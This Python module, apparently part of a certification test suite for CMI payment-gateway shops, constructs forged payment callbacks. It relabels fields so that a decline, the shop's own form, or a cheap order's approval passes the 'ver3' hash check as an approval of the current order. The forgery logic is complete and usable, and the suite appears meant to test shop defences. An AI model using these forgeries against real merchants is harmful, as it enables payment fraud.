"""
Genuine answers under other names: the ver3 hash covers values in the order of names, and no names.

A payer types some values that the shop sends along and the gateway sends back. With the right ones, a decline of
the gateway, another order's approval, or the shop's own form can be given new names so that it reads as an approval
of this order, under a hash that stays true. Who compares what came with what was sent, name by name, sees it.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import product
from string import ascii_lowercase
from typing import Final

import attrs

from cmi_gateway.certify.callbacks import Message, Scene, posted
from cmi_gateway.signature import hash_ver3

#: A cheap order of the attacker's own, of which only values are left.
_OTHER_ORDER: Final = "OTHER-7f3kq9z2mb4w"


@attrs.frozen
class _Turn:
    """At this field: its new name, and how the fields after it are called (None: as they were)."""

    name: str
    then: str | None


#: The payer typed "00" as a telephone number, and "Approved" into a field after it.
_TYPED: Final = {"tel": "00", "userNote": "Approved"}
_TO_APPROVAL: Final = {
    "oid": _Turn("oid", "p"),
    "tel": _Turn("ProcReturnCode", "q"),
    "usernote": _Turn("Response", "s"),
}
_TO_THIS_ORDER: Final = {
    "billtocity": _Turn("amount", None),
    "note": _Turn("oid", "p"),
    "procreturncode": _Turn("ProcReturnCode", None),
}


def decline_as_approval(scene: Scene) -> Message:
    """Turn a decline of this order into an approval of it."""
    return _posted(scene, {**scene.declined(), **_typed(scene)}, _TO_APPROVAL, None)


def own_form_as_approval(scene: Scene) -> Message:
    """Turn the shop's own form, signed with the same key, into an approval."""
    sent = {name: text for name, text in scene.order.fields if name.lower() != "hash"}
    return _posted(scene, {**sent, **_typed(scene)}, _TO_APPROVAL, None)


def other_order_as_this_one(scene: Scene) -> Message:
    """Turn the approval of a cheap order into one of this order."""
    typed = {scene.spelling("BillToCity"): scene.order.amount.wire, "note": scene.order.order_id}
    cheap = scene.approved("cheap", oid=_OTHER_ORDER, amount="1.00", ReturnOid=_OTHER_ORDER)
    return _posted(scene, {**cheap, **typed}, _TO_THIS_ORDER, "a")


def _typed(scene: Scene) -> dict[str, str]:
    return {scene.spelling(name): text for name, text in _TYPED.items()}


def _posted(
    scene: Scene, genuine: Mapping[str, str], turns: Mapping[str, _Turn], first: str | None
) -> Message:
    digest = hash_ver3(genuine.items(), scene.key)
    return posted([*_renamed(genuine, turns, first), ("HASH", digest)])


def _renamed(
    genuine: Mapping[str, str], turns: Mapping[str, _Turn], prefix: str | None
) -> Iterator[tuple[str, str]]:
    """Give the values in the order of their names, under names that sort alike."""
    fillers = ("a".join(("", *letters)) for letters in product(ascii_lowercase, repeat=2))
    for name in sorted(genuine, key=str.upper):
        if name.lower() == "encoding":  # hashed nowhere
            continue
        turn = turns.get(name.lower())
        if turn is not None:
            yield turn.name, genuine[name]
            prefix = turn.then
        elif prefix is None:
            yield name, genuine[name]
        else:
            yield prefix + next(fillers), genuine[name]
